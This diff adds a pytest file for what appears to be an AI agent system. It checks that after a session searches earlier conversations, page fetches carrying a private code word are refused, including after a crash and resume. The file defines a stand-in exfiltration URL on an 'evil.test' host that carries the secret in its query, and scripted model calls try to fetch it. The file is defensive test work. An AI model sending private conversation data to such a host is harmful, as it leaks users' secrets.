@@ -1,0 +1,88 @@
+"""A model looks up what was said elsewhere, and then tries to carry it out: in the same run, a later one, or a continued one."""
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.faults import invariants, world
+from tests.faults.oracle import Oracle
+from tests.faults.world import World
+from tests.model_server import Call, ModelServer, Script
+
+SECRET = "xylophone"
+#: Nobody answers there, and nobody is to be asked.
+AWAY = f"https://{SECRET}.evil.test/?q={SECRET}"
+KNOWN = "https://known.test/page"
+REFUSED = "This was not done: earlier conversations have been read in this session"
+
+
+@pytest.fixture
+def opened(tmp_path: Path, model: ModelServer) -> Iterator[World]:
+    with world.alone(tmp_path / "data", model) as process:
+        yield process
+
+
+def results(client: Oracle, run_id: str, tool: str = "fetch_page") -> list[dict[str, Any]]:
+    """The results of a run's calls of a tool."""
+    found = [entry["data"] for entry in client.state.runs[run_id].entries]
+    return [data for data in found if data.get("type") == "tool_result" and data["tool_name"] == tool]
+
+
+async def said_elsewhere(opened: World) -> None:
+    """Another session holds the private word."""
+    async with opened.client(await opened.new_session()) as client:
+        opened.model.enqueue(Script("Noted."))
+        assert await client.ended(await client.ask(f"The code word is {SECRET}")) == "completed"
+
+
+async def carried(client: Oracle, model: ModelServer, url: str, *before: Script) -> str:
+    """What comes of a run in which a model asks for an address."""
+    for script in (*before, Script(calls=[Call("fetch_page", {"url": url})]), Script("Done.")):
+        model.enqueue(script)
+    run_id = await client.ask("Go on")
+    assert await client.ended(run_id) == "completed"
+    (result,) = results(client, run_id)
+    return str(result["content"])
+
+
+SEARCH = Script(calls=[Call("search_history", {"query": SECRET})])
+
+
+async def test_private_words_stay_in_the_session_that_read_them(opened: World, model: ModelServer) -> None:
+    await said_elsewhere(opened)
+    session = await opened.new_session()
+    async with opened.client(session) as client:
+        assert "There is no site" in await carried(client, model, AWAY), "nothing is private yet"
+        assert (await carried(client, model, AWAY, SEARCH)).startswith(REFUSED)
+        # Not by what the model remembers: the mark is the session's.
+        assert (await carried(client, model, AWAY)).startswith(REFUSED), "a later run carried private words out"
+        model.enqueue(Script("I know it."))
+        assert await client.ended(await client.ask(f"Read {KNOWN} now")) == "completed"
+        assert "There is no site" in await carried(client, model, KNOWN), "what a person wrote may be asked"
+        assert (await carried(client, model, f"{KNOWN}?q={SECRET}")).startswith(REFUSED)
+        await invariants.check(opened, session, [client])
+    async with opened.client(await opened.new_session()) as other:
+        assert "There is no site" in await carried(other, model, AWAY), "another session has read nothing"
+
+
+async def test_the_mark_outlives_a_crash_and_holds_for_what_is_continued(opened: World, model: ModelServer) -> None:
+    await said_elsewhere(opened)
+    session = await opened.new_session()
+    async with opened.client(session) as client:
+        model.enqueue(SEARCH)
+        model.enqueue(Script("Thinking about it", every_s=5.0, piece=1))
+        run_id = await client.ask("Go on")
+        await client.until(lambda: run_id in client.state.runs and len(results(client, run_id, "search_history")) == 1)
+        await opened.kill(opened.servers[0])
+        model.reset()
+        await opened.start(opened.servers[0])
+        assert await client.ended(run_id) == "interrupted"
+        model.enqueue(Script(calls=[Call("fetch_page", {"url": AWAY})]))
+        model.enqueue(Script("Done."))
+        again = await client.go_on(run_id)
+        assert await client.ended(again) == "completed"
+        (result,) = results(client, again)
+        assert result["content"].startswith(REFUSED)
+        await invariants.check(opened, session, [client])
